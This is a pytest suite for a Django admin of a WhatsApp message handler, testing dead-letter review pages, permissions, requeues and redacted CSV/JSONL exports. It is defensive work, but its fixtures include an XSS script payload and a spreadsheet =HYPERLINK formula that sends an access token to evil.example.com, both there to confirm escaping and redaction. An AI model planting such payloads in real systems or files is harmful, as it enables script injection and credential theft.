"""The Django admin, through Django's test client: what staff see and what they may do.

The browser test (test_admin_browser.py) drives the DLQ review end to end with a
real worker; these check each page and rule cheaply.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shlex
import uuid
from datetime import timedelta
from decimal import Decimal
from urllib.parse import urlencode

import pytest
from django.apps import apps as django_apps
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.utils import timezone

from core import breakers
from dlq.models import DeadLetter
from leads.models import (
    Business,
    CallbackRequest,
    Lead,
    LeadActivity,
    Order,
    OrderLine,
    Product,
    ReviewFlag,
    SalesNotification,
    SupportTicket,
)
from tests.support import meta
from tests.support.events import BUSINESS_ID, encode, event
from whatsapp.edge.webhook.payload import parse_delivery
from whatsapp.edge.webhook.store import store_delivery
from whatsapp.ingest.intake import take_in
from whatsapp.kafka import Record
from whatsapp.models import DuplicateDelivery, OutboundMessage, ProcessedMessage, SagaStep, WebhookDelivery

pytestmark = pytest.mark.django_db

SECRET = "whsec-DO-NOT-SHOW-4f1c2e"
HOSTILE = "<script>alert('x')</script>"


@pytest.fixture
def business() -> Business:
    biz = Business.objects.create(
        business_id=BUSINESS_ID,
        tenant_id="tenant-acme",
        display_name="Acme Bakery",
        sales_webhook_url="https://crm.example.com/hook",
        sales_webhook_secret=SECRET,
    )
    Product.objects.create(business=biz, sku="SD-01", name="sourdough loaf", price="6.50", stock=500)
    return biz


@pytest.fixture
def root(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.com", "pw")


@pytest.fixture
def agent(django_user_model):
    """Support: reads dead letters and may resolve or discard them, but not requeue."""
    user = django_user_model.objects.create_user("agent", "agent@example.com", "pw", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="dlq", codename__in=["view_deadletter", "change_deadletter"])
    )
    return user


def ingest_dead_letter(value: bytes, offset: int) -> DeadLetter:
    """A dead letter made by the real intake code, as ingest makes it."""
    take_in(
        [
            Record(
                topic="ai.process.result",
                partition=0,
                offset=offset,
                value=value,
                key=b"lead-1",
                timestamp=timezone.now(),
                headers=[("content-type", b"application/json")],
            )
        ]
    )
    return DeadLetter.objects.get(kafka_offset=offset)


@pytest.fixture
def saga_entry(business) -> DeadLetter:
    """A pipeline dead letter as saga.write_dead_letter writes it, with a hostile error text."""
    payload = event("complaint-9", intent="COMPLAINT", entities={"severity": "high"})
    return DeadLetter.objects.create(
        payload=payload,
        processing_id="complaint-9",
        business_id=BUSINESS_ID,
        lead_id="lead-777",
        kafka_topic="ai.process.result",
        kafka_partition=2,
        kafka_offset=417,
        stage="NOTIFY_SALES",
        reason="non_retryable",
        error_class="PermanentActionError",
        error_message=f"PermanentActionError: sales webhook answered 422 {HOSTILE}",
        traceback='Traceback (most recent call last):\n  File "whatsapp/saga.py", line 200, in run_action\n'
        "PermanentActionError: sales webhook answered 422",
        attempts=1,
        saga_run=1,
        saga_state={
            "run": 1,
            "handler": "complaint",
            "steps": [
                {"order": 1, "action": "CREATE_SUPPORT_TICKET", "status": "COMPENSATED", "attempts": 1},
                {"order": 2, "action": "FLAG_FOR_REVIEW", "status": "COMPENSATED", "attempts": 1},
                {"order": 3, "action": "NOTIFY_SALES", "status": "FAILED", "attempts": 1, "error": "422"},
            ],
        },
        requeue_history=[{"by": "ops@example.com", "at": "2026-11-24T10:00:00+00:00", "saga_run": 1}],
    )


@pytest.fixture
def everything(business, saga_entry) -> dict:
    """One row of every model the admin shows."""
    lead = Lead.objects.create(lead_id="lead-123", business=business, wa_id="15550123456", state="CONVERTED")
    LeadActivity.objects.create(
        lead=lead, kind="state_changed", from_state="NEW", to_state="CONVERTED", processing_id="order-1"
    )
    common = {"business": business, "lead": lead, "saga_run": 1}
    order = Order.objects.create(
        **common,
        processing_id="order-1",
        idempotency_key="order-1:1:1:CREATE_ORDER",
        reference="ORD-000001",
        total=Decimal("13.00"),
        currency="USD",
    )
    OrderLine.objects.create(
        order=order,
        product=business.products.get(),
        sku="SD-01",
        name="sourdough loaf",
        quantity=2,
        unit_price=Decimal("6.50"),
        line_total=Decimal("13.00"),
    )
    SupportTicket.objects.create(**common, processing_id="c-1", idempotency_key="c-1:1:1:T")
    ReviewFlag.objects.create(**common, processing_id="c-1", idempotency_key="c-1:1:2:F", reason="low_confidence")
    SalesNotification.objects.create(
        **common,
        processing_id="order-1",
        idempotency_key="order-1:1:2:N",
        kind="order",
        payload={"type": "order", "total": "13.00"},
        status="SENT",
    )
    CallbackRequest.objects.create(
        **common,
        processing_id="call-1",
        idempotency_key="call-1:1:1:C",
        preferred_time=timezone.now() + timedelta(days=1),
    )
    message = ProcessedMessage.objects.create(
        processing_id="complaint-9",
        status="FAILED",
        business_id=BUSINESS_ID,
        lead_id="lead-123",
        intent="COMPLAINT",
        payload=saga_entry.payload,
        kafka_topic="ai.process.result",
        kafka_partition=2,
        kafka_offset=417,
        trace_id="4bf92f3577b34da6a3ce929d0e0e4736",
        started_at=timezone.now(),
        finished_at=timezone.now(),
    )
    SagaStep.objects.create(message=message, saga_run=1, order=1, action="CREATE_SUPPORT_TICKET", status="COMPENSATED")
    OutboundMessage.objects.create(
        processing_id="order-1",
        saga_run=1,
        idempotency_key="order-1:1:reply",
        business=business,
        lead=lead,
        to="15550123456",
        body="Thanks!",
        status="SENT",
    )
    DuplicateDelivery.objects.create(processing_id="order-1", kafka_topic="t", kafka_partition=0, kafka_offset=9)
    # A webhook delivery and its message (the webhook's own records).
    business.phone_number_id = meta.PHONE_NUMBER_ID
    business.save(update_fields=["phone_number_id"])
    body = meta.encode(meta.message_delivery(meta.image_message(caption="¿está disponible? 🍞")))
    store_delivery(body, parse_delivery(body))
    return {"lead": lead, "message": message, "order": order}


def test_every_admin_page_renders_and_the_secret_never_shows(client, root, everything):
    client.force_login(root)
    assert client.get("/admin/").status_code == 200
    for model in admin.site._registry:
        opts = model._meta
        # follow: the inbox's Conversations entry leads to its own list page (inbox.views).
        changelist = client.get(f"/admin/{opts.app_label}/{opts.model_name}/", follow=True)
        assert changelist.status_code == 200, f"{opts.label} list"
        assert SECRET not in changelist.content.decode()
        obj = model.objects.first() if opts.managed else None
        if obj is not None:
            page = client.get(f"/admin/{opts.app_label}/{opts.model_name}/{obj.pk}/change/")
            assert page.status_code == 200, f"{opts.label} page"
            assert SECRET not in page.content.decode(), f"the webhook secret shows on the {opts.label} page"
    business_page = client.get(f"/admin/leads/business/{everything['lead'].business_id}/change/").content.decode()
    assert "set (hidden)" in business_page
    # A webhook delivery shows its body as it was received (escaped), non-ASCII text and all.
    delivery = WebhookDelivery.objects.get()
    page = client.get(f"/admin/whatsapp/webhookdelivery/{delivery.pk}/change/").content.decode()
    assert "¿está disponible? 🍞" in page and "whatsapp_business_account" in page


def test_a_new_webhook_secret_can_be_set_but_not_read_back(client, root, business):
    client.force_login(root)
    form = {
        "business_id": business.business_id,
        "tenant_id": business.tenant_id,
        "display_name": "Acme Bakery",
        "is_active": "on",
        "replies_enabled": "on",
        "default_language": "en",
        "confidence_thresholds": "{}",
        "sales_webhook_url": business.sales_webhook_url,
        "phone_number_id": "",
        "products-TOTAL_FORMS": "0",
        "products-INITIAL_FORMS": "0",
    }
    response = client.post(f"/admin/leads/business/{business.pk}/change/", {**form, "new_webhook_secret": ""})
    assert response.status_code == 302, response.content.decode()[:2000]
    business.refresh_from_db()
    assert business.sales_webhook_secret == SECRET, "an empty field keeps the secret"
    client.post(f"/admin/leads/business/{business.pk}/change/", {**form, "new_webhook_secret": "rotated-0001"})
    business.refresh_from_db()
    assert business.sales_webhook_secret == "rotated-0001"
    assert "rotated-0001" not in client.get(f"/admin/leads/business/{business.pk}/change/").content.decode()


def test_lead_activity_is_shown_but_cannot_be_edited_or_deleted(client, root, everything):
    client.force_login(root)
    lead, url = everything["lead"], f"/admin/leads/lead/{everything['lead'].pk}/change/"
    page = client.get(url).content.decode()
    assert "state_changed" in page and "CONVERTED" in page
    assert "activities-0-DELETE" not in page and 'name="activities-0-kind"' not in page
    forged = client.post(
        url,
        {
            "activities-TOTAL_FORMS": "1",
            "activities-INITIAL_FORMS": "1",
            "activities-0-id": str(lead.activities.get().pk),
            "activities-0-DELETE": "on",
            "activities-0-kind": "rewritten",
        },
    )
    assert forged.status_code == 403
    assert list(lead.activities.values_list("kind", flat=True)) == ["state_changed"]
    assert LeadActivity not in admin.site._registry
    assert client.get("/admin/leads/leadactivity/").status_code == 404


def test_dlq_entry_page_reads_well_and_escapes(client, root, everything, saga_entry):
    client.force_login(root)
    page = client.get(f"/admin/dlq/deadletter/{saga_entry.pk}/change/").content.decode()
    assert HOSTILE not in page and html.escape(HOSTILE) in page, "error text is escaped"
    assert "&quot;processing_id&quot;: &quot;complaint-9&quot;" in page, "payload pretty-printed"
    assert "<pre" in page and "File &quot;whatsapp/saga.py&quot;, line 200" in page, "traceback shown as is"
    for step in ("CREATE_SUPPORT_TICKET", "FLAG_FOR_REVIEW", "NOTIFY_SALES", "COMPENSATED", "FAILED"):
        assert step in page
    assert "ai.process.result [2] @ 417" in page
    assert "ops@example.com" in page, "requeue history"
    inbox = f"/admin/whatsapp/processedmessage/{everything['message'].pk}/change/"
    assert inbox in page, "links to its inbox row"
    inbox_page = client.get(inbox).content.decode()
    assert "/admin/dlq/deadletter/?processing_id=complaint-9" in inbox_page, "the inbox row links to its entries"
    listed = client.get("/admin/dlq/deadletter/?processing_id=complaint-9").content.decode()
    assert f"/admin/dlq/deadletter/{saga_entry.pk}/change/" in listed


def test_a_dead_letter_nested_100000_levels_deep_opens(client, root):
    """The raw record of an ingest dead letter, as ingest stores it: 100,000 levels of
    brackets (json.loads gives up near 1,000). Its page opens and shows the record as text, cut short."""
    deep = b"[" * 100_000 + b"]" * 100_000
    entry = ingest_dead_letter(deep, offset=60)
    assert bytes(entry.raw_value) == deep and entry.reason == "invalid_payload"
    client.force_login(root)
    response = client.get(f"/admin/dlq/deadletter/{entry.pk}/change/")
    assert response.status_code == 200
    page = response.content.decode()
    assert (
        "200,000 bytes; nested more than 64 levels deep: shown as stored; the first 65,536 of 200,000 characters"
        in page
    )
    assert "[" * 65_536 in page and "[" * 65_537 not in page
    assert len(page) < 400_000
    assert client.get("/admin/dlq/deadletter/").status_code == 200


def test_huge_binary_and_long_values_open_cut_short(client, root):
    binary = b"\xff\xfe" + bytes(range(256)) * 20_480  # 5 MB, not UTF-8
    control = "line one\x07\x08\x1b[31m" + HOSTILE  # (Postgres refuses NUL in text)
    entry = DeadLetter.objects.create(
        raw_value=binary,
        kafka_key=b"k" * 5000,
        stage="ingest",
        reason="invalid_payload",
        error_message=control + "e" * 200_000,
        traceback="Traceback (most recent call last):\n"
        + "  frame\n" * 50_000
        + "ValueError: the last line says the most",
        payload={"message": {"text": "t" * 100_000, "nested": {"deeper": [1, 2, {"x": HOSTILE}]}}},
        kafka_headers=[{"key": "content-type", "value": "application/json"}],
    )
    client.force_login(root)
    response = client.get(f"/admin/dlq/deadletter/{entry.pk}/change/")
    assert response.status_code == 200
    page = response.content.decode()
    assert len(page) < 1_000_000
    assert "Not UTF-8 text (invalid start byte at byte 0): 5,242,882 bytes, the first 4,096 shown as hex" in page
    assert "00000000  ff fe 00 01 02 03 04 05 06 07 08 09 0a 0b 0c 0d  ................" in page
    assert "00000ff0  " in page and "00001000  " not in page
    # The payload laid out, its long string cut, its hostile value escaped.
    assert "&quot;" + "t" * 4096 + "&quot;… (100,000 characters)" in page and "t" * 4097 not in page
    assert HOSTILE not in page and html.escape(HOSTILE) in page
    # Control characters made visible; the error's start and the traceback's end shown.
    assert "line one\\x07\\x08\\x1b[31m" in page and "\x1b" not in page
    assert "The first 65,536 of 200,0" in page
    assert "ValueError: the last line says the most" in page and "The last 65,536 of" in page
    assert "k" * 1024 + "… (5,000 bytes)" in page
    assert "content-type" in page


def test_json_columns_of_unexpected_shapes_open(client, root):
    """Whatever shape the saga state, headers and requeue history have, the page opens and shows them."""
    entry = DeadLetter.objects.create(
        stage="NOTIFY_SALES",
        reason="non_retryable",
        payload=["not", "an", "event"],
        saga_state={"steps": "oops " + HOSTILE, "handler": {"nested": True}},
        kafka_headers="a string",
        requeue_history=[1, {"by": HOSTILE}],
    )
    client.force_login(root)
    response = client.get(f"/admin/dlq/deadletter/{entry.pk}/change/")
    assert response.status_code == 200
    page = response.content.decode()
    assert HOSTILE not in page and html.escape(f'"oops {HOSTILE}"') in page, "shown as JSON, escaped"
    assert "&quot;a string&quot;" in page and "&quot;not&quot;" in page


def test_the_deepest_json_postgres_stores_opens(client, root, saga_entry):
    """JSON columns nested as deep as Postgres accepts (Django's JSONField would fail
    to load the row): the entry's page and the list still open."""
    from django.db import DatabaseError, connection, transaction

    stored = None
    for depth in (200_000, 50_000, 20_000, 10_000, 5_000):
        try:
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute(
                    "UPDATE dlq_deadletter SET payload = j, saga_state = j, kafka_headers = j, requeue_history = j "
                    "FROM (SELECT (repeat('[', %s) || repeat(']', %s))::jsonb AS j) AS deep WHERE id = %s",
                    [depth, depth, saga_entry.pk],
                )
        except DatabaseError:
            continue
        stored = depth
        break
    assert stored is not None and stored >= 5_000, "Postgres stores JSON far deeper than json.loads reads"
    with pytest.raises(RecursionError):
        _ = DeadLetter.objects.get(pk=saga_entry.pk).payload  # what the admin must not do
    client.force_login(root)
    response = client.get(f"/admin/dlq/deadletter/{saga_entry.pk}/change/")
    assert response.status_code == 200
    page = response.content.decode()
    assert page.count("nested more than 64 levels deep: shown as stored") == 4
    assert "complaint-9" in page and client.get("/admin/dlq/deadletter/").status_code == 200


def test_dlq_list_filters_and_search(client, root, business, saga_entry):
    unknown = ingest_dead_letter(encode(event("late-1", business_id="late-bakery")), offset=1)
    invalid = ingest_dead_letter(b"this is not json {", offset=2)
    client.force_login(root)

    def listed(query: str) -> set[int]:
        page = client.get(f"/admin/dlq/deadletter/?{query}").content.decode()
        return {e.pk for e in (unknown, invalid, saga_entry) if f"/admin/dlq/deadletter/{e.pk}/change/" in page}

    assert listed("") == {unknown.pk, invalid.pk, saga_entry.pk}
    assert listed("reason=unknown_business") == {unknown.pk}
    assert listed("stage=ingest") == {unknown.pk, invalid.pk}
    assert listed("status__exact=OPEN&business_id=late-bakery") == {unknown.pk}
    assert listed("q=late-1") == {unknown.pk}
    assert listed("q=webhook+answered+422") == {saga_entry.pk}
    assert listed("q=lead-777") == {saga_entry.pk}
    hour_ago = urlencode({"created_at__gte": (timezone.now() - timedelta(hours=1)).isoformat()})
    assert listed(hour_ago) == {unknown.pk, invalid.pk, saga_entry.pk}
    assert listed(urlencode({"created_at__gte": (timezone.now() + timedelta(hours=1)).isoformat()})) == set()


def test_resolve_and_discard_ask_why_then_close_and_log(client, root, business, saga_entry):
    invalid = ingest_dead_letter(b"not json", offset=3)
    client.force_login(root)
    ask = {"action": "resolve_selected", "index": "0", "_selected_action": [str(saga_entry.pk)]}
    page = client.post("/admin/dlq/deadletter/", ask)
    assert page.status_code == 200 and 'name="note"' in page.content.decode(), "an intermediate page asks for a note"
    empty = client.post("/admin/dlq/deadletter/", {**ask, "apply": "yes", "note": "  "})
    assert empty.status_code == 200 and "This field is required" in empty.content.decode()
    saga_entry.refresh_from_db()
    assert saga_entry.status == "OPEN"

    done = client.post(
        "/admin/dlq/deadletter/",
        {
            **ask,
            "apply": "yes",
            "note": "entered in the CRM by hand",
            "next": f"/admin/dlq/deadletter/{saga_entry.pk}/change/",
        },
    )
    assert done.status_code == 302 and done["Location"] == f"/admin/dlq/deadletter/{saga_entry.pk}/change/"
    saga_entry.refresh_from_db()
    assert (saga_entry.status, saga_entry.resolution_note, saga_entry.closed_by) == (
        "RESOLVED",
        "entered in the CRM by hand",
        "root",
    )
    client.post(
        "/admin/dlq/deadletter/",
        {
            "action": "discard_selected",
            "index": "0",
            "apply": "yes",
            "_selected_action": [str(invalid.pk)],
            "note": "load-test garbage",
        },
    )
    invalid.refresh_from_db()
    assert (invalid.status, invalid.resolution_note) == ("DISCARDED", "load-test garbage")
    logs = {(e.object_id, e.change_message) for e in LogEntry.objects.filter(content_type__app_label="dlq")}
    assert logs == {
        (str(saga_entry.pk), "Resolved: entered in the CRM by hand"),
        (str(invalid.pk), "Discarded: load-test garbage"),
    }

    again = client.post("/admin/dlq/deadletter/", {**ask, "apply": "yes", "note": "twice"}, follow=True)
    assert "only OPEN entries can be resolved" in again.content.decode()
    assert LogEntry.objects.filter(content_type__app_label="dlq").count() == 2


def test_agent_without_requeue_permission_cannot_requeue(client, agent, business):
    entry = ingest_dead_letter(encode(event("late-2", business_id="late-bakery")), offset=4)
    client.force_login(agent)
    listing = client.get("/admin/dlq/deadletter/").content.decode()
    assert 'value="resolve_selected"' in listing and 'value="requeue_selected"' not in listing
    page = client.get(f"/admin/dlq/deadletter/{entry.pk}/change/").content.decode()
    assert "late-2" in page and "Resolve" in page and "requeue-button" not in page
    forged = client.post(
        "/admin/dlq/deadletter/", {"action": "requeue_selected", "index": "0", "_selected_action": [str(entry.pk)]}
    )
    assert forged.status_code == 403
    assert client.post(f"/admin/dlq/deadletter/{entry.pk}/change/", {"status": "REQUEUED"}).status_code == 403
    entry.refresh_from_db()
    assert (entry.status, entry.requeue_history) == ("OPEN", [])
    assert not LogEntry.objects.exists()


def test_a_refused_requeue_is_reported_and_changes_nothing(client, root, business):
    entry = ingest_dead_letter(b"still not json", offset=5)
    client.force_login(root)
    page = client.post(
        "/admin/dlq/deadletter/",
        {"action": "requeue_selected", "index": "0", "_selected_action": [str(entry.pk)]},
        follow=True,
    ).content.decode()
    assert "Not requeued" in page and "the record is still invalid" in page
    entry.refresh_from_db()
    assert entry.status == "OPEN" and not LogEntry.objects.exists()


def late_dead_letters(count: int, first_offset: int) -> list[DeadLetter]:
    """Ingest dead letters for a business that did not exist yet; created now, so they can be requeued."""
    entries = [
        ingest_dead_letter(
            encode(event(f"late-{first_offset + i}", business_id="late-bakery")), offset=first_offset + i
        )
        for i in range(count)
    ]
    Business.objects.get_or_create(
        business_id="late-bakery", defaults={"tenant_id": "tenant-acme", "display_name": "Late Bakery"}
    )
    return entries


def suggested_command(page: str) -> list[str]:
    """The `manage.py dlq requeue ...` the admin's message names, as arguments for call_command."""
    message = html.unescape(page).split("Requeue them with: manage.py ", 1)[1].split("<", 1)[0].strip()
    return shlex.split(message)


def test_a_bulk_requeue_stops_in_time_and_names_the_command_for_the_rest(client, root, business, settings):
    """Paced at 4 a second for at most 1 s, six entries cannot all be requeued: the
    admin answers with what it did, how many are left, and a command that finishes them."""
    settings.DLQ_REQUEUE_RATE_PER_SECOND = 4
    settings.DLQ_ADMIN_REQUEUE_SECONDS = 1
    entries = late_dead_letters(6, first_offset=10)
    client.force_login(root)
    page = client.post(
        "/admin/dlq/deadletter/",
        {"action": "requeue_selected", "index": "0", "_selected_action": [str(e.pk) for e in entries]},
        follow=True,
    ).content.decode()
    requeued = set(DeadLetter.objects.filter(status="REQUEUED").values_list("pk", flat=True))
    left = list(DeadLetter.objects.filter(status="OPEN").order_by("created_at", "pk").values_list("pk", flat=True))
    assert requeued and len(left) >= 2 and len(requeued) + len(left) == 6
    assert requeued == {e.pk for e in entries[: len(requeued)]}, "oldest first"
    assert f"Requeued {len(requeued)} dead letter(s)." in page
    assert f"requeued {len(requeued)} of 6, {len(left)} left" in page and "DLQ_ADMIN_REQUEUE_SECONDS" in page
    command = suggested_command(page)
    assert command == ["dlq", "requeue", *map(str, left)]
    assert LogEntry.objects.filter(content_type__app_label="dlq").count() == len(requeued)

    call_command(*command, "--rate", "100", stdout=io.StringIO())
    assert set(DeadLetter.objects.values_list("status", flat=True)) == {"REQUEUED"}


# Nothing listens here: the broker, stopped.
BROKER_DOWN = "redis://127.0.0.1:1/0"


def test_a_bulk_requeue_with_the_broker_down_changes_nothing_and_says_so(client, root, business, settings):
    """Redis stopped: no entry is marked requeued without a queued task, the page says why
    (no error page), and the same selection requeues once the broker is back."""
    entries = late_dead_letters(3, first_offset=30)
    selected = {"action": "requeue_selected", "index": "0", "_selected_action": [str(e.pk) for e in entries]}
    client.force_login(root)
    settings.CELERY_BROKER_URL = BROKER_DOWN
    answer = client.post("/admin/dlq/deadletter/", selected, follow=True)
    page = html.unescape(answer.content.decode())
    assert answer.status_code == 200
    assert "Stopped: the Celery broker (Redis) cannot be reached" in page
    assert "Requeued 0 of 3; the 3 left are OPEN, as they were" in page and "127.0.0.1:1" not in page
    for entry in entries:
        entry.refresh_from_db()
        assert (entry.status, entry.requeue_count, entry.requeue_history) == ("OPEN", 0, [])
    assert not ProcessedMessage.objects.exists() and not LogEntry.objects.exists()

    settings.CELERY_BROKER_URL = settings.REDIS_URL
    client.post("/admin/dlq/deadletter/", selected, follow=True)
    assert set(DeadLetter.objects.values_list("status", flat=True)) == {"REQUEUED"}
    assert ProcessedMessage.objects.count() == 3 and LogEntry.objects.count() == 3


def test_a_large_filtered_requeue_names_the_filters_to_finish_with(client, root, business, settings, monkeypatch):
    """ "Select all" of a filtered list, cut short: the command left is the list's filters
    from the first entry not reached, and it requeues exactly the ones left."""
    from dlq import admin as dlq_admin

    monkeypatch.setattr(dlq_admin, "IDS_IN_COMMAND", 2)
    settings.DLQ_REQUEUE_RATE_PER_SECOND = 4
    settings.DLQ_ADMIN_REQUEUE_SECONDS = 1
    entries = late_dead_letters(7, first_offset=30)
    other = ingest_dead_letter(b"not json", offset=50)  # another reason: outside the filter
    client.force_login(root)
    page = client.post(
        "/admin/dlq/deadletter/?reason=unknown_business",
        {"action": "requeue_selected", "index": "0", "select_across": "1", "_selected_action": [str(entries[0].pk)]},
        follow=True,
    ).content.decode()
    left = set(DeadLetter.objects.filter(status="OPEN", reason="unknown_business").values_list("pk", flat=True))
    assert len(left) >= 3
    command = suggested_command(page)
    assert command[:4] == ["dlq", "requeue", "--reason", "unknown_business"] and "--since" in command

    call_command(*command, "--rate", "100", stdout=io.StringIO())
    assert set(DeadLetter.objects.filter(pk__in=[e.pk for e in entries]).values_list("status", flat=True)) == {
        "REQUEUED"
    }
    other.refresh_from_db()
    assert other.status == "OPEN"


def test_the_admin_filters_become_command_options():
    from django.http import QueryDict

    from dlq.command_line import command_filters

    options, since, until = command_filters(
        QueryDict("reason=unknown_business&stage__exact=ingest&business_id=b-1&q=late-1&o=2&created_at__gte=2026-03-01")
    )
    assert options == ["--reason", "unknown_business", "--stage", "ingest", "--business", "b-1", "--search", "late-1"]
    assert since.isoformat() == "2026-03-01T00:00:00+00:00" and until is None
    _, since, until = command_filters(QueryDict("created_at__year=2026&created_at__month=12"))
    assert (since.isoformat(), until.isoformat()) == ("2026-12-01T00:00:00+00:00", "2027-01-01T00:00:00+00:00")
    assert command_filters(QueryDict("q=two+words")) is None, "the admin ANDs the words; --search takes one"
    assert command_filters(QueryDict("processing_id=p-1")) is None
    assert command_filters(QueryDict("status__exact=RESOLVED")) is None


def test_the_admin_refuses_weak_passwords(client, root):
    client.force_login(root)
    form = {"old_password": "pw", "new_password1": "password", "new_password2": "password"}
    weak = client.post("/admin/password_change/", form).content.decode()
    assert "This password is too common." in weak
    digits = client.post(
        "/admin/password_change/", {**form, "new_password1": "83920174", "new_password2": "83920174"}
    ).content.decode()
    assert "This password is entirely numeric." in digits
    strong = "plum-Harbor-quietly-7"
    assert (
        client.post("/admin/password_change/", {**form, "new_password1": strong, "new_password2": strong}).status_code
        == 302
    )
    root.refresh_from_db()
    assert root.check_password(strong)


def test_breakers_page_forces_and_logs_and_needs_change_permission(client, root, django_user_model):
    name = f"webhook:admin-{uuid.uuid4().hex[:8]}.test"
    breakers.breaker_for(name).call(lambda: None)  # a call registers it
    client.force_login(root)
    page = client.get("/admin/whatsapp/circuitbreaker/").content.decode()
    assert name in page and "closed" in page and 'name="op" value="open"' in page

    assert client.post("/admin/whatsapp/circuitbreaker/", {"name": name, "op": "open"}).status_code == 302
    assert breakers.breaker_for(name).snapshot()["state"] == breakers.OPEN
    assert "open" in client.get("/admin/whatsapp/circuitbreaker/").content.decode()
    client.post("/admin/whatsapp/circuitbreaker/", {"name": name, "op": "reset"})
    assert breakers.breaker_for(name).snapshot()["state"] == breakers.CLOSED
    assert list(LogEntry.objects.filter(object_id=name).order_by("pk").values_list("change_message", flat=True)) == [
        "Forced open",
        "Reset",
    ]
    unknown = client.post("/admin/whatsapp/circuitbreaker/", {"name": "webhook:nope.test", "op": "open"}, follow=True)
    assert "No breaker named" in unknown.content.decode()
    assert name not in client.get("/admin/whatsapp/circuitbreaker/").content.decode(), "reset forgets it"
    breakers.breaker_for(name).call(lambda: None)

    viewer = django_user_model.objects.create_user("viewer", "v@example.com", "pw", is_staff=True)
    viewer.user_permissions.set(Permission.objects.filter(codename="view_circuitbreaker"))
    client.force_login(viewer)
    page = client.get("/admin/whatsapp/circuitbreaker/").content.decode()
    assert name in page and 'name="op"' not in page
    assert client.post("/admin/whatsapp/circuitbreaker/", {"name": name, "op": "open"}).status_code == 403
    assert breakers.breaker_for(name).snapshot()["state"] == breakers.CLOSED


TOKEN = "EAAG-test-access-token-NEVER-EXPORTED-91b2"


def export(client, kind: str, entries: list[DeadLetter]):
    response = client.post(
        "/admin/dlq/deadletter/",
        {"action": f"export_{kind}", "index": "0", "_selected_action": [str(e.pk) for e in entries]},
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return response, body


@pytest.fixture
def exportable(business, saga_entry, settings) -> list[DeadLetter]:
    """The saga's entry, a record that is not UTF-8, and one whose error and record hold a
    secret (the access token, a URL with credentials) and a spreadsheet formula."""
    settings.WHATSAPP_ACCESS_TOKEN = TOKEN
    binary = ingest_dead_letter(b"\xff\xfe not text", offset=30)
    leaky = ingest_dead_letter(
        f'{{"note": "token {TOKEN}", "hook": "https://u:pw@crm.example.com/h/K3Y"}}'.encode(), 31
    )
    DeadLetter.objects.filter(pk=leaky.pk).update(
        error_message=f'=HYPERLINK("https://evil.example.com/?t={TOKEN}") failed',
        traceback=f"Traceback ...\nError: Bearer {TOKEN}",
    )
    return [saga_entry, binary, leaky]


def test_export_with_the_requeue_permission_carries_the_records_and_no_secret(client, root, exportable):
    saga_entry, binary, leaky = exportable
    client.force_login(root)
    response, body = export(client, "jsonl", exportable)
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert response["Content-Disposition"].startswith('attachment; filename="dead-letters-')
    lines = [json.loads(line) for line in body.splitlines()]
    assert [row["id"] for row in lines] == [e.pk for e in exportable]  # oldest first
    by_id = {row["id"]: row for row in lines}
    saga = by_id[saga_entry.pk]
    assert (saga["stage"], saga["reason"], saga["business_id"]) == ("NOTIFY_SALES", "non_retryable", BUSINESS_ID)
    assert saga["payload"]["processing_id"] == "complaint-9" and saga["payload"]["intent"] == "COMPLAINT"
    assert saga["created_at"] == saga_entry.created_at.isoformat()
    assert (by_id[binary.pk]["raw_value_encoding"], by_id[binary.pk]["raw_value"]) == ("base64", "//4gbm90IHRleHQ=")
    leaked_raw = by_id[leaky.pk]["raw_value"]
    assert by_id[leaky.pk]["raw_value_encoding"] == "utf-8" and "token [redacted]" in leaked_raw
    assert '"https://crm.example.com:443"' in leaked_raw, "a URL in the record is cut to its origin"
    assert by_id[leaky.pk]["kafka_headers"] == [{"key": "content-type", "value": "application/json"}]
    assert by_id[leaky.pk]["kafka_key"] == "lead-1"

    response, text = export(client, "csv", exportable)
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(text)))
    assert [int(row["id"]) for row in table] == [e.pk for e in exportable]
    assert {"payload", "raw_value", "kafka_key", "kafka_headers"} <= set(table[0])
    assert json.loads(table[0]["payload"])["processing_id"] == "complaint-9"
    leaked = table[2]
    assert leaked["error_message"].startswith("'="), "a formula is never left for a spreadsheet to run"
    for output in (body, text):
        assert TOKEN not in output and "u:pw" not in output and "K3Y" not in output and SECRET not in output


def test_export_without_the_requeue_permission_leaves_the_records_out(client, agent, exportable):
    client.force_login(agent)
    listing = client.get("/admin/dlq/deadletter/").content.decode()
    assert 'value="export_csv"' in listing and 'value="export_jsonl"' in listing
    _, body = export(client, "jsonl", exportable)
    lines = [json.loads(line) for line in body.splitlines()]
    assert len(lines) == 3 and lines[0]["error_message"].startswith("PermanentActionError: sales webhook answered 422")
    assert all(not {"payload", "raw_value", "kafka_key", "kafka_headers"} & set(row) for row in lines)
    _, text = export(client, "csv", exportable)
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == 3 and "payload" not in table[0] and "raw_value" not in table[0]
    assert table[0]["reason"] == "non_retryable"
    for output in (body, text):
        assert "crm.example.com" not in output, "the raw record is left out"
        assert TOKEN not in output and "u:pw" not in output


def test_dead_letter_list_columns_and_times_to_the_second(client, root, saga_entry):
    client.force_login(root)
    page = client.get("/admin/dlq/deadletter/").content.decode()
    headers = re.findall(r'<th scope="col"\s+class="[^"]*column-(\w+)', page)
    assert headers == [
        "id",
        "age",
        "status",
        "stage",
        "reason",
        "business",
        "message",
        "short_error",
        "requeues",
    ]
    stamp = timezone.localtime(saga_entry.created_at).strftime("%Y-%m-%d %H:%M:%S")
    assert f'title="{stamp}"' in page, "the age's tooltip gives the time to the second"
    assert "NOTIFY_SALES" in page and "non_retryable" in page and BUSINESS_ID in page
    entry_page = client.get(f"/admin/dlq/deadletter/{saga_entry.pk}/change/").content.decode()
    assert stamp in entry_page
    by_age = client.get("/admin/dlq/deadletter/?o=2")
    assert by_age.status_code == 200 and "NOTIFY_SALES" in by_age.content.decode()


def test_site_names_the_product_and_models_are_spelled_right(client, root):
    client.force_login(root)
    index = client.get("/admin/").content.decode()
    assert "WhatsApp message handler" in index and "Django administration" not in index
    assert "Duplicate deliveries" in index and ">Duplicate deliverys<" not in index
    for model in django_apps.get_models():
